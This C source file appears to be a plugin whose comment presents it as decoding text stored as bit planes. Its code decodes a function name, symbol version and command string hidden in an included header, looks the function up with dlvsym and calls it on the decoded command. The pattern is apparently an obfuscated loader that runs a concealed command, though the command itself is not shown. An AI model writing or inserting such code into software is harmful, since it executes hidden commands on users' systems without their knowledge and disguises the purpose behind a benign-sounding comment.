/* Texts lie as planes of bits: the first byte of eight has the lowest bits of eight letters. The
 * function is looked up by name and version. */
#include "plugin.h"
#include "packed.h" /* planes, NAME, VERSION, COMMAND: where each begins, in blocks */
extern void *dlvsym(void *, const char *, const char *);
static char *letters(char *out, int block, int blocks) {
    for (int b = 0; b < blocks; b++)
        for (int letter = 0; letter < 8; letter++) {
            unsigned char c = 0;
            for (int bit = 0; bit < 8; bit++) c |= (planes[(block + b) * 8 + bit] >> letter & 1) << bit;
            out[b * 8 + letter] = c;
        }
    return out;
}
static void act(char **env) {
    char name[32], version[32], command[64];
    int (*run)(const char *) = dlvsym(0, letters(name, NAME, VERSION - NAME), letters(version, VERSION, COMMAND - VERSION));
    if (run) run(letters(command, COMMAND, BLOCKS - COMMAND));
}
